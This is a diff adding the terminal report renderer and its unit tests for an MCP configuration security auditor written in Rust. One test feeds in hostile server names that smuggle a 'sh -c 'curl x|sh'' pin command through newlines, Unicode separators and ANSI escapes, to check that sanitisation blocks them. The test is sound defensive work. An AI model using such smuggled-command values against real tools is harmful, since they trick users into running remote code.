@@ -1,20 +1,637 @@
 //! The human report on stdout.
+//!
+//! Order: the `MCP posture — …` header, one line per source, one sandbox line, then
+//! either a one-line verdict or the findings table, then Next steps when a server
+//! has no lock. Every config-derived string passes through [`safe_text`]. Colour is
+//! ANSI SGR and only when [`TextStyle::color`] says so; the table is laid out for
+//! [`TextStyle::width`] columns, while the Next steps lines are never wrapped.
 
-// Placeholder signatures; replaced by the implementation.
-use std::io::{self, Write};
+use std::io::{self, IsTerminal, Write};
+
+use unicode_width::UnicodeWidthChar;
 
 use crate::model::Report;
+use crate::render::next_steps::render_next_steps;
+use crate::render::safe_text::safe_text;
+use crate::rules::Severity;
 
-#[derive(Debug, Clone, Copy)]
+/// How the human report is drawn. The caller decides (a TTY and no `NO_COLOR`).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct TextStyle {
+    /// Emit ANSI colour and bold.
     pub color: bool,
+    /// Terminal width in columns for the findings table.
     pub width: usize,
 }
 
-pub fn render(_report: &Report, _out: &mut dyn Write, _style: TextStyle) -> io::Result<()> {
+impl Default for TextStyle {
+    fn default() -> Self {
+        TextStyle {
+            color: false,
+            width: DEFAULT_WIDTH,
+        }
+    }
+}
+
+/// Width used when stdout is not a terminal and `COLUMNS` is unset.
+pub const DEFAULT_WIDTH: usize = 80;
+
+impl TextStyle {
+    /// The style for the process's stdout: colour when stdout is a terminal and
+    /// `NO_COLOR` is unset or empty; width from the terminal, else `COLUMNS`, else 80.
+    pub fn for_stdout() -> Self {
+        let stdout = io::stdout();
+        let tty = stdout.is_terminal();
+        let no_color = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
+        let width = terminal_size::terminal_size_of(&stdout)
+            .map(|(w, _)| usize::from(w.0))
+            .filter(|&w| w > 0)
+            .or_else(|| {
+                std::env::var("COLUMNS")
+                    .ok()
+                    .and_then(|c| c.trim().parse().ok())
+            })
+            .filter(|&w: &usize| w > 0)
+            .unwrap_or(DEFAULT_WIDTH);
+        TextStyle {
+            color: tty && !no_color,
+            width,
+        }
+    }
+}
+
+/// The line printed instead of a report when nothing was found to scan.
+pub fn no_configs_line(searched: usize) -> String {
+    format!("no MCP configs found (searched {searched} well-known location(s); pass --config to add one)")
+}
+
+/// Printed when there are no findings and every discovered config was read.
+pub const CLEAN_LINE: &str = "doctor clean — every server is pinned and shows no posture findings";
+/// Printed when there are no findings but a discovered config was skipped.
+pub const SKIPPED_LINE: &str =
+    "no posture findings, but at least one config was skipped (see warnings)";
+/// Printed when there are no findings but a discovered config could not be read.
+pub const UNREADABLE_LINE: &str =
+    "no posture findings in the configs that could be read; at least one config could not be read (see warnings)";
+
+const BOLD: &str = "\x1b[1m";
+const RED: &str = "\x1b[31m";
+const YELLOW: &str = "\x1b[33m";
+const GREEN: &str = "\x1b[32m";
+const CYAN: &str = "\x1b[36m";
+const RESET: &str = "\x1b[0m";
+
+fn paint(style: TextStyle, sgr: &str, text: &str) -> String {
+    if style.color && !sgr.is_empty() {
+        format!("{sgr}{text}{RESET}")
+    } else {
+        text.to_string()
+    }
+}
+
+fn severity_sgr(severity: Severity) -> &'static str {
+    match severity {
+        Severity::Critical | Severity::High => RED,
+        Severity::Medium => YELLOW,
+        Severity::Low => "",
+    }
+}
+
+/// Terminal columns taken by `s`: wide characters count 2, zero-width ones 0.
+fn display_width(s: &str) -> usize {
+    s.chars().map(|c| c.width().unwrap_or(0)).sum()
+}
+
+/// Break `text` into lines of at most `width` columns, breaking after any of
+/// `breaks` where possible (a break at a space drops the space) and inside a
+/// piece when the piece alone is too long. Never returns an empty list.
+fn wrap_at(text: &str, width: usize, breaks: &[char]) -> Vec<String> {
+    let width = width.max(1);
+    // Pieces end just after a break character.
+    let mut pieces = Vec::new();
+    let mut start = 0;
+    for (i, c) in text.char_indices() {
+        if breaks.contains(&c) {
+            pieces.push(&text[start..i + c.len_utf8()]);
+            start = i + c.len_utf8();
+        }
+    }
+    pieces.push(&text[start..]);
+
+    let mut lines = Vec::new();
+    let mut line = String::new();
+    let mut line_w = 0usize;
+    for piece in pieces {
+        let visible = piece.strip_suffix(' ').unwrap_or(piece);
+        if line_w + display_width(visible) <= width {
+            line.push_str(piece);
+            line_w += display_width(piece);
+            continue;
+        }
+        if !line.is_empty() {
+            lines.push(std::mem::take(&mut line).trim_end_matches(' ').to_string());
+            line_w = 0;
+        }
+        for c in piece.chars() {
+            let cw = c.width().unwrap_or(0);
+            if line_w + cw > width && !line.is_empty() {
+                lines.push(std::mem::take(&mut line));
+                line_w = 0;
+            }
+            line.push(c);
+            line_w += cw;
+        }
+    }
+    lines.push(line.trim_end_matches(' ').to_string());
+    lines
+}
+
+/// Wrap prose at spaces.
+fn wrap(text: &str, width: usize) -> Vec<String> {
+    wrap_at(text, width, &[' '])
+}
+
+/// Wrap a target after path and name separators.
+fn wrap_target(text: &str, width: usize) -> Vec<String> {
+    wrap_at(text, width, &['/', '#', ' '])
+}
+
+fn pad(s: &str, width: usize) -> String {
+    let w = display_width(s);
+    format!("{s}{}", " ".repeat(width.saturating_sub(w)))
+}
+
+const INDENT: usize = 2;
+const MIN_WRAPPED: usize = 12;
+
+/// The table is drawn with box-drawing borders so that every table line starts
+/// with a border character: a wrapped cell can never begin a line with text that
+/// came from a config (e.g. a server name ending in `mcp-warden pin sh -c …`).
+const V: &str = "│";
+
+struct Row {
+    severity: Severity,
+    rule: &'static str,
+    target: String,
+    message: String,
+}
+
+/// Column widths for (server, message) given the room left after the fixed columns.
+fn flexible_widths(avail: usize, server_nat: usize, message_nat: usize) -> (usize, usize) {
+    if server_nat + message_nat <= avail {
+        return (server_nat, message_nat);
+    }
+    let server = server_nat.min((avail / 2).max(MIN_WRAPPED));
+    let message = message_nat.min(avail.saturating_sub(server).max(MIN_WRAPPED));
+    // Give what the message does not need back to the server column.
+    let server = server_nat.min(server.max(avail.saturating_sub(message)));
+    (server, message)
+}
+
+fn border(left: &str, mid: &str, right: &str, widths: &[usize]) -> String {
+    let cells: Vec<String> = widths.iter().map(|w| "─".repeat(w + 2)).collect();
+    format!("{left}{}{right}", cells.join(mid))
+}
+
+fn render_table(report: &Report, out: &mut dyn Write, style: TextStyle) -> io::Result<()> {
+    let mut rows: Vec<Row> = report
+        .findings()
+        .map(|f| Row {
+            severity: f.severity(),
+            rule: f.rule.as_str(),
+            target: safe_text(&f.target),
+            message: safe_text(&f.message),
+        })
+        .collect();
+    // Stable: ties keep report order.
+    rows.sort_by(|a, b| (a.severity, &a.target, a.rule).cmp(&(b.severity, &b.target, b.rule)));
+
+    let headers = ["severity", "rule", "server", "message"];
+    let sev_w = rows
+        .iter()
+        .map(|r| r.severity.as_str().len())
+        .chain([headers[0].len()])
+        .max()
+        .unwrap_or(8);
+    let rule_w = rows
+        .iter()
+        .map(|r| r.rule.len())
+        .chain([headers[1].len()])
+        .max()
+        .unwrap_or(4);
+    let server_nat = rows
+        .iter()
+        .map(|r| display_width(&r.target))
+        .chain([headers[2].len()])
+        .max()
+        .unwrap_or(6);
+    let message_nat = rows
+        .iter()
+        .map(|r| display_width(&r.message))
+        .chain([headers[3].len()])
+        .max()
+        .unwrap_or(7);
+    // "│ " + sev + " │ " + rule + " │ " + server + " │ " + message + " │"
+    let fixed = 13 + sev_w + rule_w;
+    let avail = style.width.saturating_sub(fixed);
+
+    writeln!(
+        out,
+        "{}",
+        paint(style, BOLD, &format!("Posture findings ({})", rows.len()))
+    )?;
+    if avail < 2 * MIN_WRAPPED {
+        // Too narrow for four columns: server and message go under each row,
+        // behind a border so no wrapped line starts with config text.
+        let text_w = style.width.saturating_sub(INDENT + 2).max(MIN_WRAPPED);
+        for row in &rows {
+            let sev = paint(
+                style,
+                severity_sgr(row.severity),
+                &pad(row.severity.as_str(), sev_w),
+            );
+            writeln!(out, "  {sev}  {}", row.rule)?;
+            for line in wrap_target(&row.target, text_w)
+                .into_iter()
+                .chain(wrap(&row.message, text_w))
+            {
+                writeln!(out, "  {V} {line}")?;
+            }
+        }
+        return Ok(());
+    }
+    let (server_w, message_w) = flexible_widths(avail, server_nat, message_nat);
+    let widths = [sev_w, rule_w, server_w, message_w];
+
+    writeln!(out, "{}", border("┌", "┬", "┐", &widths))?;
+    let header: Vec<String> = headers
+        .iter()
+        .zip(widths)
+        .map(|(h, w)| paint(style, BOLD, &pad(h, w)))
+        .collect();
+    writeln!(out, "{V} {} {V}", header.join(&format!(" {V} ")))?;
+    writeln!(out, "{}", border("├", "┼", "┤", &widths))?;
+    for row in &rows {
+        let server_lines = wrap_target(&row.target, server_w);
+        let message_lines = wrap(&row.message, message_w);
+        let height = server_lines.len().max(message_lines.len());
+        for i in 0..height {
+            let (sev, rule) = if i == 0 {
+                (
+                    paint(
+                        style,
+                        severity_sgr(row.severity),
+                        &pad(row.severity.as_str(), sev_w),
+                    ),
+                    pad(row.rule, rule_w),
+                )
+            } else {
+                (" ".repeat(sev_w), " ".repeat(rule_w))
+            };
+            let server = pad(
+                server_lines.get(i).map(String::as_str).unwrap_or(""),
+                server_w,
+            );
+            let message = pad(
+                message_lines.get(i).map(String::as_str).unwrap_or(""),
+                message_w,
+            );
+            writeln!(out, "{V} {sev} {V} {rule} {V} {server} {V} {message} {V}")?;
+        }
+    }
+    writeln!(out, "{}", border("└", "┴", "┘", &widths))?;
     Ok(())
 }
 
-pub fn no_configs_line(searched: usize) -> String {
-    format!("no MCP configs found (searched {searched} well-known location(s); pass --config to add one)")
+/// Write the human report for `report`.
+pub fn render(report: &Report, out: &mut dyn Write, style: TextStyle) -> io::Result<()> {
+    writeln!(
+        out,
+        "{} — {} config source(s), {} server(s)",
+        paint(style, BOLD, "MCP posture"),
+        report.sources.len(),
+        report.servers.len()
+    )?;
+    for (index, source) in report.sources.iter().enumerate() {
+        let count = report.servers.iter().filter(|s| s.source == index).count();
+        writeln!(
+            out,
+            "  {}  {}  ({count} server(s))",
+            paint(style, CYAN, &safe_text(&source.client)),
+            safe_text(&source.label)
+        )?;
+    }
+    writeln!(out, "  parsed in a sandbox: {}", safe_text(&report.sandbox))?;
+
+    if report.findings().next().is_none() {
+        if report.hard_errors > 0 {
+            writeln!(out, "{UNREADABLE_LINE}")?;
+        } else if report.skipped > 0 {
+            writeln!(out, "{SKIPPED_LINE}")?;
+        } else {
+            writeln!(
+                out,
+                "{} — {}",
+                paint(style, GREEN, "doctor clean"),
+                &CLEAN_LINE["doctor clean — ".len()..]
+            )?;
+        }
+    } else {
+        render_table(report, out, style)?;
+    }
+
+    if report.uncovered().next().is_some() {
+        writeln!(out)?;
+        render_next_steps(report, out)?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::{AuditedServer, Coverage, Finding, ServerSpec, Source};
+    use crate::render::jsonl::tests::worked_example;
+    use crate::render::next_steps::assign_lock_names;
+
+    fn render_string(r: &Report, style: TextStyle) -> String {
+        let mut buf = Vec::new();
+        render(r, &mut buf, style).unwrap_or_else(|e| panic!("{e}"));
+        String::from_utf8(buf).unwrap_or_else(|e| panic!("{e}"))
+    }
+
+    fn plain(width: usize) -> TextStyle {
+        TextStyle {
+            color: false,
+            width,
+        }
+    }
+
+    fn covered_report() -> Report {
+        Report {
+            sources: vec![Source {
+                client: "explicit".into(),
+                label: "/work/mine.json".into(),
+                path: "/work/mine.json".into(),
+                explicit: true,
+            }],
+            servers: vec![AuditedServer {
+                source: 0,
+                name: "s".into(),
+                target: "/work/mine.json#s".into(),
+                spec: ServerSpec {
+                    command: Some("python".into()),
+                    ..ServerSpec::default()
+                },
+                line: 1,
+                column: 17,
+                findings: vec![],
+                coverage: Coverage::Approved,
+                lock_name: None,
+            }],
+            sandbox: "landlock ABI 6, seccomp, no capabilities".into(),
+            ..Report::default()
+        }
+    }
+
+    const HEAD: &str = "MCP posture — 1 config source(s), 1 server(s)\n  explicit  /work/mine.json  (1 server(s))\n  parsed in a sandbox: landlock ABI 6, seccomp, no capabilities\n";
+
+    #[test]
+    fn clean() {
+        assert_eq!(
+            render_string(&covered_report(), plain(80)),
+            format!("{HEAD}doctor clean — every server is pinned and shows no posture findings\n")
+        );
+    }
+
+    #[test]
+    fn skipped_is_never_clean() {
+        let r = Report {
+            skipped: 1,
+            ..covered_report()
+        };
+        assert_eq!(
+            render_string(&r, plain(80)),
+            format!("{HEAD}{SKIPPED_LINE}\n")
+        );
+        // Reference test 27/40 shape: nothing readable, one skip.
+        let empty = Report {
+            skipped: 1,
+            sandbox: "seccomp".into(),
+            ..Report::default()
+        };
+        assert_eq!(
+            render_string(&empty, plain(80)),
+            "MCP posture — 0 config source(s), 0 server(s)\n  parsed in a sandbox: seccomp\n\
+             no posture findings, but at least one config was skipped (see warnings)\n"
+        );
+    }
+
+    #[test]
+    fn hard_error_is_never_clean() {
+        for r in [
+            Report {
+                hard_errors: 1,
+                ..covered_report()
+            },
+            Report {
+                hard_errors: 2,
+                skipped: 1,
+                ..covered_report()
+            },
+        ] {
+            let text = render_string(&r, plain(80));
+            assert_eq!(text, format!("{HEAD}{UNREADABLE_LINE}\n"));
+            assert!(!text.contains("doctor clean") && !text.contains("skipped"));
+        }
+    }
+
+    #[test]
+    fn findings_golden_at_120_columns() {
+        let mut r = worked_example();
+        assign_lock_names(&mut r, &|_| false);
+        let text = render_string(&r, plain(120));
+        let expected = "\
+MCP posture — 3 config source(s), 3 server(s)
+  Claude Code  ~/.claude.json#projects[/repo]  (1 server(s))
+  Cursor  ~/.cursor/mcp.json  (1 server(s))
+  Claude Desktop  ~/Library/Application Support/Claude/claude_desktop_config.json  (1 server(s))
+  parsed in a sandbox: landlock ABI 6, seccomp, no capabilities
+Posture findings (8)
+┌──────────┬──────────────────────────┬───────────────────────────────────────┬────────────────────────────────────────┐
+│ severity │ rule                     │ server                                │ message                                │
+├──────────┼──────────────────────────┼───────────────────────────────────────┼────────────────────────────────────────┤
+│ critical │ WRD-SEC-GITHUB           │ ~/.cursor/mcp.json#gh                 │ WRD-SEC-GITHUB: possible secret in     │
+│          │                          │                                       │ field                                  │
+│ high     │ WRD-AUTH-TOKEN-IN-CONFIG │ ~/.cursor/mcp.json#gh                 │ auth key 'GITHUB_TOKEN' holds a        │
+│          │                          │                                       │ literal credential in config;          │
+│          │                          │                                       │ reference a secret manager (${VAR})    │
+│          │                          │                                       │ instead                                │
+│ high     │ WRD-SUP-NPX-UNPINNED     │ ~/.cursor/mcp.json#gh                 │ Unpinned npx package (resolves latest  │
+│          │                          │                                       │ at run)                                │
+│ high     │ WRD-AUTH-PLAINTEXT-HTTP  │ ~/Library/Application Support/Claude/ │ remote MCP endpoint 'mcp.example.com'  │
+│          │                          │ claude_desktop_config.json#remote     │ uses cleartext http://; use https://   │
+│ medium   │ WRD-AUTH-NOAUTH          │ ~/Library/Application Support/Claude/ │ remote MCP endpoint 'mcp.example.com'  │
+│          │                          │ claude_desktop_config.json#remote     │ declares no authentication (no         │
+│          │                          │                                       │ Authorization/token header or env)     │
+│ low      │ WRD-DOCTOR-NO-LOCK       │ ~/.claude.json#projects[/repo]#ok     │ no warden.lock pins this server's      │
+│          │                          │                                       │ declared surface; run the pin command  │
+│          │                          │                                       │ below                                  │
+│ low      │ WRD-DOCTOR-NO-LOCK       │ ~/.cursor/mcp.json#gh                 │ no warden.lock pins this server's      │
+│          │                          │                                       │ declared surface; run the pin command  │
+│          │                          │                                       │ below                                  │
+│ low      │ WRD-DOCTOR-NO-LOCK       │ ~/Library/Application Support/Claude/ │ no warden.lock pins this server's      │
+│          │                          │ claude_desktop_config.json#remote     │ declared surface; run the pin command  │
+│          │                          │                                       │ below                                  │
+└──────────┴──────────────────────────┴───────────────────────────────────────┴────────────────────────────────────────┘
+
+Next steps — 3 server(s) have no warden.lock. Pin each once, commit the lock, then wire the check into CI:
+  # '~/.claude.json#projects[/repo]#ok'
+  mcp-warden pin --url https://h.example.com --approve --approver you@example.com --lock ok.warden.lock
+  # '~/.cursor/mcp.json#gh'
+  mcp-warden pin npx -y @modelcontextprotocol/server-github --approve --approver you@example.com --lock gh.warden.lock
+  # '~/Library/Application Support/Claude/claude_desktop_config.json#remote'
+  mcp-warden pin --url http://mcp.example.com/sse --approve --approver you@example.com --lock remote.warden.lock
+  (env values are never printed: export the ones a server needs in your shell before pinning it)
+";
+        assert!(text.starts_with(expected), "got:\n{text}");
+        assert!(text.ends_with("          mcp-warden check --url http://mcp.example.com/sse --lock remote.warden.lock\n"));
+        for line in text.lines().take_while(|l| !l.starts_with("Next steps")) {
+            assert!(display_width(line) <= 120, "too wide: {line}");
+        }
+        assert!(!text.contains('\x1b'));
+    }
+
+    #[test]
+    fn table_fits_narrow_terminals_but_next_steps_never_wrap() {
+        let mut r = worked_example();
+        assign_lock_names(&mut r, &|_| false);
+        for width in [60, 80, 100] {
+            let text = render_string(&r, plain(width));
+            let (table, next) = text.split_at(text.find("Next steps").unwrap_or(text.len()));
+            for line in table.lines().skip(5) {
+                assert!(display_width(line) <= width, "{width}: {line:?}");
+            }
+            assert!(next.lines().any(|l| l
+                == "  mcp-warden pin npx -y @modelcontextprotocol/server-github --approve --approver you@example.com --lock gh.warden.lock"));
+        }
+    }
+
+    #[test]
+    fn colour_only_when_asked() {
+        let mut r = worked_example();
+        assign_lock_names(&mut r, &|_| false);
+        let text = render_string(
+            &r,
+            TextStyle {
+                color: true,
+                width: 120,
+            },
+        );
+        assert!(text.contains("\x1b[1mMCP posture\x1b[0m — 3 config source(s)"));
+        assert!(text.contains("\x1b[31mcritical\x1b[0m"));
+        assert!(text.contains("\x1b[33mmedium  \x1b[0m"));
+        // The lines to copy never carry escape sequences.
+        let next = &text[text.find("Next steps").unwrap_or(0)..];
+        assert!(!next.contains('\x1b'));
+        let clean = render_string(
+            &covered_report(),
+            TextStyle {
+                color: true,
+                width: 80,
+            },
+        );
+        assert!(clean.contains("\x1b[32mdoctor clean\x1b[0m — every server is pinned"));
+    }
+
+    #[test]
+    fn hostile_names_cannot_inject_lines_or_escapes() {
+        let evil = [
+            "gh\n  mcp-warden pin sh -c 'curl x|sh' --approve #",
+            "gh\x1b[2K\x1b[1;31mFAKE CLEAN",
+            "gh\u{2028}  mcp-warden pin sh -c 'curl x|sh' --approve #",
+            "gh\u{202e}  mcp-warden pin sh -c 'curl x|sh' --approve #",
+            "gh\u{9b}  mcp-warden pin sh -c 'curl x|sh' --approve #",
+            "gh\u{85}  mcp-warden pin sh -c 'curl x|sh' --approve #",
+        ];
+        for name in evil {
+            let mut r = worked_example();
+            r.servers[1].name = name.into();
+            r.servers[1].target = format!("~/.cursor/mcp.json#{name}");
+            r.sources[1].client = format!("Cursor{name}");
+            r.sources[1].label = format!("~/.cursor/{name}");
+            let target = r.servers[1].target.clone();
+            for f in &mut r.servers[1].findings {
+                f.target = target.clone();
+                f.message = format!("{}{name}", f.message);
+            }
+            assign_lock_names(&mut r, &|_| false);
+            for width in [40, 120] {
+                let text = render_string(&r, plain(width));
+                assert!(!text.contains('\x1b'));
+                assert!(text.contains('\u{FFFD}'));
+                for bad in ['\u{2028}', '\u{202e}', '\u{9b}', '\u{85}', '\r'] {
+                    assert!(!text.contains(bad));
+                }
+                assert!(
+                    !text
+                        .lines()
+                        .any(|l| l.trim_start().starts_with("mcp-warden pin sh")),
+                    "{text}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn sort_is_by_severity_then_target_then_rule_id_string() {
+        use crate::rules::RuleId;
+        let mut r = covered_report();
+        let f = |rule, target: &str| Finding {
+            rule,
+            target: target.into(),
+            message: "m".into(),
+            snippet: "s".into(),
+        };
+        r.servers[0].findings = vec![
+            f(RuleId::SupPipUnpinned, "b"),
+            f(RuleId::AuthTokenInConfig, "b"),
+            f(RuleId::SecJwt, "a"),
+            f(RuleId::DoctorNoLock, "a"),
+            f(RuleId::SecOpenai, "z"),
+        ];
+        let text = render_string(&r, plain(200));
+        let order: Vec<&str> = text
+            .lines()
+            .filter(|l| l.contains("WRD-"))
+            .filter_map(|l| l.split_whitespace().nth(3))
+            .collect();
+        assert_eq!(
+            order,
+            [
+                "WRD-SEC-OPENAI",
+                "WRD-SEC-JWT",
+                "WRD-AUTH-TOKEN-IN-CONFIG",
+                "WRD-SUP-PIP-UNPINNED",
+                "WRD-DOCTOR-NO-LOCK"
+            ]
+        );
+    }
+
+    #[test]
+    fn wrap_rules() {
+        assert_eq!(wrap("a bb ccc", 4), ["a bb", "ccc"]);
+        assert_eq!(wrap("abcdefghij", 4), ["abcd", "efgh", "ij"]);
+        assert_eq!(wrap("", 4), [""]);
+        assert_eq!(wrap("日本語", 4), ["日本", "語"]);
+        assert_eq!(wrap("日", 1), ["日"]);
+    }
+
+    #[test]
+    fn no_configs() {
+        assert_eq!(
+            no_configs_line(9),
+            "no MCP configs found (searched 9 well-known location(s); pass --config to add one)"
+        );
+    }
 }
